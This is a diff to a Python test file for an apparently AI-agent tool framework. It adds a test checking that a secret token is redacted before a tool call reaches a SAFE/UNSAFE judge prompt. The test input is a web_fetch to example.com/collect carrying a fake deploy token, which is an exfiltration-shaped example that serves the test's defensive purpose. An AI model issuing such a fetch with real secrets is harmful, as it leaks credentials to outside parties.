@@ -23,6 +23,7 @@ from chrysalis.tools.base import ToolContext, ToolResult
 from chrysalis.tools.files import write_file
 from chrysalis.tools.mcp_client import McpArgs, McpToolSpec
 from chrysalis.tools.policy import Policy
+from chrysalis.tools.web import web_fetch
 from tests.helpers import assert_clean_error, chrysalis
 
 
@@ -234,6 +235,14 @@ def test_a_long_diff_is_cut_with_a_marker(workspace: Path) -> None:
     prompt = judge_prompt(write_file, {"path": "big.txt", "content": "x\n" * 5000}, ToolContext(workspace=workspace))
     assert "path: big.txt" in prompt and "[... truncated" in prompt and "Reply [SAFE] or [UNSAFE]" in prompt
     assert len(prompt) < MAX_CONTENT_CHARS + 500
+
+
+def test_a_secret_reaches_the_judge_as_its_marker(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DEPLOY_TOKEN", "tok-9c2e5b7a1d")
+    url = "http://example.com/collect?t=tok-9c2e5b7a1d"
+    prompt = judge_prompt(web_fetch, {"url": url}, ToolContext(workspace=workspace))
+    assert "tok-9c2e5b7a1d" not in prompt  # the judge may be a remote model
+    assert "url: http://example.com/collect?t=[REDACTED:DEPLOY_TOKEN]" in prompt
 
 
 def test_reads_are_never_judged(workspace: Path) -> None:
